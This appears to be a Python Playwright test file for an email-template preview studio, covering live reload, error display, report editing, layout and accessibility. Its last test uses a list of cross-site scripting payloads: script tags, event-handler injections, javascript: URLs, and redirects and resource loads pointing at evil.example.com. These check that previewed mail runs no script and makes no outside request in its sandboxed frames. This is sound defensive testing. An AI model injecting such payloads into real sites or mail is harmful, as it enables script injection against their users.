"""The studio as a template's author uses it: change, see, break, mend, compare."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, FrameLocator, Page, expect

from pyservice import samples
from tests.browser.conftest import Looks, service

HEAD = '<!DOCTYPE html><html lang="en"><head><title>x</title><style>@media (prefers-color-scheme: '
DARK = "dark) { body { background: #111; color: #eee } }</style></head><body>"
LINES = """cells => [...new Set(cells.filter((cell) => cell.textContent).map((cell) => {
  const range = document.createRange();
  range.selectNodeContents(cell);
  return range.getClientRects().length;
}))]"""
"""In how many lines the texts of cells stand."""
HOSTILE = (
    "<script>parent.evil = 1</script>",
    "<img src=x onerror='parent.evil = 1'>",
    "<svg onload='parent.evil = 1'></svg>",
    "<iframe srcdoc='<script>parent.parent.evil = 1</script>'></iframe>",
    "<iframe src='javascript:parent.evil = 1'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example.com/'>",
    "<base href='http://evil.example.com/'><img src=x.png>",
    "<link rel=stylesheet href=http://evil.example.com/x.css>",
    "<style>@import 'http://evil.example.com/y.css'; body { background: url(//evil.example.com) }",
    "</style><form action=http://evil.example.com/><input name=a autofocus onfocus='alert(1)'>",
    "<object data='javascript:alert(1)'></object><embed src=//evil.example.com/e.swf>",
    "<video src=//evil.example.com/v.mp4 onerror=alert(1)></video>",
    "<details open ontoggle='alert(1)'>x</details><body onload='alert(1)'>",
    "</pre></textarea></title><script>alert(1)</script>",
    "<a href='javascript:parent.evil = 1' target=_top>a link</a>",
)
"""What must do nothing in a frame. `parent` is the page around it."""


@pytest.fixture(scope="module")
def templates(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An administrator's templates."""
    folder = tmp_path_factory.mktemp("templates")
    for name in ("team", "other"):
        (folder / name).mkdir()
        save(folder / name, "Hello from " + name)
    return folder


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory, templates: Path) -> Iterator[str]:
    """The address of a service with these templates."""
    with service(tmp_path_factory.mktemp("studio"), templates_dir=templates) as address:
        yield address


def save(template: Path, text: str) -> None:
    """Save a template's HTML with a paragraph."""
    (template / "body.html").write_text(
        f'{HEAD}{DARK}<p style="margin: 0">{text}</p></body></html>'
    )


def frame(page: Page, name: str) -> FrameLocator:
    """The mail in a frame of the studio."""
    return page.frame_locator(f"figure.is-{name} iframe")


def test_an_author_sees_each_save_and_each_mistake(looks: Looks, templates: Path) -> None:
    """The page follows the files, and nothing that the author did on it is lost."""
    page = looks.at(1000, 900).open("/preview/team/3-tests-fail", is_live=True)
    for name in ("desktop", "phone", "dark"):
        expect(frame(page, name).locator("p")).to_have_text("Hello from team")
    page.get_by_text("Headers", exact=True).click()
    page.get_by_label("The mail in frames").evaluate("one => one.scrollLeft = 200")
    lines = "".join(f"<br>line {n}" for n in range(60))
    save(templates / "team", "Good morning, {{ build.job }}" + lines)
    expect(frame(page, "dark").locator("p")).to_contain_text("Good morning, shop/checkout")
    expect(page.get_by_text("Auto-Submitted: auto-generated").first).to_be_visible()
    assert page.get_by_label("The mail in frames").evaluate("one => one.scrollLeft") > 0
    heights = page.evaluate(
        "[...document.querySelectorAll('.frames iframe')].slice(0, 3).map((one) =>"
        "[one.clientHeight, one.contentDocument.documentElement.scrollHeight])"
    )
    assert all(outside == inside > 900 for outside, inside in heights), heights
    save(templates / "team", "Good {{ biuld.job }}")
    fault = page.locator(".fault")
    expect(fault).to_contain_text("team/body.html, line 1: 'biuld' is undefined")
    expect(fault).to_contain_text("Is build meant?")
    expect(page.get_by_text("readers get the mail below")).to_be_visible()
    expect(frame(page, "desktop").locator("body")).to_contain_text("shop » checkout")
    fault.get_by_role("link", name="Show the line").focus()
    page.keyboard.press("Enter")
    expect(page.locator("li.is-fault")).to_contain_text("biuld")
    expect(page.locator("li.is-fault")).to_be_in_viewport()
    save(templates / "team", "Good {{ build.number }}")
    expect(fault).to_have_count(0)
    expect(frame(page, "phone").locator("p")).to_have_text("Good 3")


def test_an_author_edits_the_report(looks: Looks, templates: Path) -> None:
    """As JSON and as a tree; what the schema refuses is named and found; a save keeps the edit."""
    save(templates / "team", "{{ headline.word }} {{ build.number }}")
    page = looks.at(1600, 900).open("/preview/team/3-tests-fail", is_live=True)
    shown = frame(page, "desktop").locator("p")
    expect(shown).to_have_text("Unstable 3")
    page.get_by_text("JSON", exact=True).click()
    text = page.get_by_label("The report as JSON")
    report = json.loads(text.input_value())
    report["build"]["result"] = "BROKEN"
    text.fill(json.dumps(report))
    problems = page.locator("#studio-problems")
    expect(problems).to_contain_text("/build/result: it must be 'SUCCESS', 'UNSTABLE', 'FAILURE'")
    expect(shown).to_have_text("Unstable 3")
    problems.get_by_role("link", name="/build/result").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_label("result", exact=True)).to_be_focused()
    page.keyboard.press("Control+A")
    page.keyboard.type("ABORTED")
    expect(shown).to_have_text("Aborted 3")
    expect(problems).to_have_text("")
    page.get_by_label("number", exact=True).fill("77")
    expect(shown).to_have_text("Aborted 77")
    assert json.loads(text.input_value())["build"]["number"] == 77
    save(templates / "team", "Build {{ build.number }}: {{ headline.word }}")
    expect(shown).to_have_text("Build 77: Aborted")
    text.fill("{")
    expect(problems).to_contain_text("The body is not JSON")
    with page.expect_download() as saved:
        page.get_by_role("link", name="Save as report.json").click()
    assert saved.value.path().read_text() == "{"
    page.get_by_role("button", name="Reset").click()
    expect(shown).to_have_text("Build 3: Unstable")
    expect(problems).to_have_text("")


def test_an_edited_mail_is_kept_and_sent(looks: Looks, templates: Path) -> None:
    """As the page shows it, and in a tab of its own, so that no change is lost."""
    save(templates / "team", "Build {{ build.number }}")
    page = looks.at(1600, 900).open("/preview/team/3-tests-fail", is_live=True)
    page.locator("summary", has_text="build").first.click()
    page.get_by_label("number", exact=True).fill("77")
    expect(frame(page, "desktop").locator("p")).to_have_text("Build 77")
    for label, value, button in (
        ("Send me this", "me@example.com", "Send the mail"),
        ("Keep as your sample", "mine", "Keep it"),
    ):
        page.get_by_label(label).fill(value)
        with page.expect_popup() as opened:
            page.get_by_role("button", name=button).click()
        mail = opened.value.locator("iframe.mail").first.content_frame
        expect(mail.locator("p")).to_have_text("Build 77")
        opened.value.close()
    expect(page.get_by_label("number", exact=True)).to_have_value("77")
    page.get_by_role("button", name="Reset").click()
    expect(frame(page, "desktop").locator("p")).to_have_text("Build 3")
    page.get_by_role("button", name="Keep it").click()
    page.wait_for_url("**/preview/team/own:mine")
    expect(frame(page, "desktop").locator("p")).to_have_text("Build 3")


@pytest.mark.parametrize("width", [1200, 1280, 1440, 1800, 1900])
def test_the_frames_fit_a_desk(looks: Looks, templates: Path, width: int) -> None:
    """Desktop, phone and dark stand side by side, and nothing is to be scrolled."""
    save(templates / "team", "Hello")
    page = looks.at(width, 900).open("/preview/team/3-tests-fail", is_live=True)
    frames = page.get_by_label("The mail in frames")
    expect(frame(page, "dark").locator("p")).to_have_text("Hello")
    room = frames.evaluate("one => one.clientWidth - one.scrollWidth")
    assert room >= 0


def test_what_the_mail_is_made_of(looks: Looks, templates: Path) -> None:
    """The parts, the size, the neighbours, and the mail as Outlook has it."""
    save(templates / "team", "Hello " + "x" * 110_000)
    page = looks.at(1600, 900).open("/preview/team/3-tests-fail", is_live=True)
    expect(page.get_by_text("Gmail ends before this")).to_be_visible()
    save(templates / "team", '<span style="border-radius: 4px; color: red">Hello</span>')
    expect(page.get_by_text("of the 102 KB that Gmail shows")).to_be_visible()
    page.get_by_label("Outlook on Windows").check()
    span = frame(page, "outlook").locator("span")
    expect(span).to_have_attribute("style", "color: red")
    page.locator("summary", has_text="MIME tree").click()
    expect(page.locator("#studio-tree-part")).to_contain_text("multipart/alternative")
    page.locator("summary", has_text="body.html").click()
    expect(page.locator("#studio-files-part")).to_contain_text("border-radius")
    page.get_by_role("link", name="Next:").click()
    expect(page).to_have_url(looks.base + "/preview/team/3-unstable")
    page.get_by_label("Template", exact=True).select_option("other")
    page.get_by_role("button", name="Show").click()
    expect(page).to_have_url(looks.base + "/preview/other/3-unstable")
    expect(frame(page, "desktop").locator("p")).to_have_text("Hello from other")


def test_an_author_compares_yesterdays_mail_with_todays_template(
    looks: Looks, templates: Path
) -> None:
    """The mail as it was sent stays; the other side follows the template."""
    save(templates / "team", "Yesterday")
    report = samples.load("2-failure").model_dump(mode="json", exclude_none=True)
    mail = {"to": ["ada@example.com"], "template": "team"}
    watched = looks.at(1600, 900)
    sent = watched.page.request.post(f"{looks.base}/v1/reports", data=report | {"mail": mail})
    answer = sent.json()
    status, made = f"{looks.base}{answer['status_url']}", False
    while not made:
        made = "queued" in watched.page.request.get(status).text()
    save(templates / "team", "Today")
    page = watched.open(f"/preview/team/report:{answer['id']}", is_live=True)
    page.get_by_role("link", name="Compare with the mail that was sent").click()
    left = page.frame_locator("figure iframe").first
    right = page.frame_locator("figure iframe").last
    expect(left.locator("p")).to_have_text("Yesterday")
    expect(right.locator("p")).to_have_text("Today")
    html = page.get_by_label("Differences of the HTML")
    expect(html.locator("tr.is-removed")).to_contain_text("Yesterday")
    expect(html.locator("tr.is-added")).to_contain_text("Today")
    save(templates / "team", "Tomorrow")
    expect(right.locator("p")).to_have_text("Tomorrow")
    expect(html.locator("tr.is-added")).to_contain_text("Tomorrow")
    page.get_by_label("Template left").select_option("other")
    page.get_by_label("Build left").fill("2-failure")
    page.get_by_role("button", name="Compare").click()
    expect(left.locator("p")).to_have_text("Hello from other")


@pytest.mark.parametrize(
    ("width", "scheme"), [(1600, "light"), (1600, "dark"), (390, "light"), (320, "dark")]
)
def test_the_studio_is_for_everybody(
    looks: Looks, templates: Path, width: int, scheme: Literal["light", "dark"]
) -> None:
    """axe-core reports nothing, a phone shows the whole width, frames have their own scheme.

    No number of a line is broken in two.
    """
    save(templates / "team", "{{ nothing }}")
    compared = "left_template=build&left_source=2-failure&right_template=other"
    page = looks.at(width, 844, scheme, measured=True).open(
        "/preview/other/2-failure", is_live=True
    )
    for name, colour in (("desktop", "rgba(0, 0, 0, 0)"), ("dark", "rgb(17, 17, 17)")):
        expect(frame(page, name).locator("body")).to_have_css("background-color", colour)
    for path in (
        "/preview/other/2-failure",
        "/preview/team/2-failure",
        f"/compare?{compared}&right_source=2-failure",
    ):
        page.goto(looks.base + path, wait_until="load")
        for summary in page.locator("summary").all():
            summary.evaluate("one => one.parentElement.open = true")
        results = Axe().run(page)
        assert results.violations_count == 0, results.generate_report()
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    numbers = page.get_by_label("Differences of the HTML").locator("td.number")
    expect(numbers.get_by_text("10", exact=True).first).to_be_visible()
    assert numbers.evaluate_all(LINES) == [1]


def test_a_mail_can_do_nothing_on_the_page(browser: Browser, base: str, templates: Path) -> None:
    """Neither when it is loaded nor when it is put into its frame: no script, no request."""
    (templates / "hostile").mkdir()
    body = templates / "hostile" / "body.html"
    body.write_text("<p>first</p>" + "".join(HOSTILE))
    # A window in which the frames are not scaled: Playwright would click beside the link.
    page = browser.new_page(viewport={"width": 1000, "height": 900})
    done: list[str] = []
    page.on("dialog", lambda dialog: done.append(dialog.message))
    page.on("pageerror", lambda error: done.append(str(error)))
    page.on("popup", lambda popup: done.append(popup.url))
    page.on("request", lambda request: asked.add(request.url))
    page.on("requestfailed", lambda request: failures.add((request.url, request.failure)))
    asked: set[str] = set()
    failures: set[tuple[str, str | None]] = set()
    page.goto(f"{base}/preview/hostile/2-failure", wait_until="load")
    expect(frame(page, "dark").locator("p")).to_have_text("first")
    body.write_text("<p>second</p>" + "".join(HOSTILE))
    expect(frame(page, "dark").locator("p")).to_have_text("second")
    frame(page, "desktop").get_by_text("a link").click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.evil") is None
    assert page.url == base + "/preview/hostile/2-failure"
    page.close()
    assert done == []
    foreign = {url for url in asked if not url.startswith((base, "data:", "about:"))}
    assert {
        (url, "csp") for url in foreign
    } <= failures  # the browser names what it did not even ask for
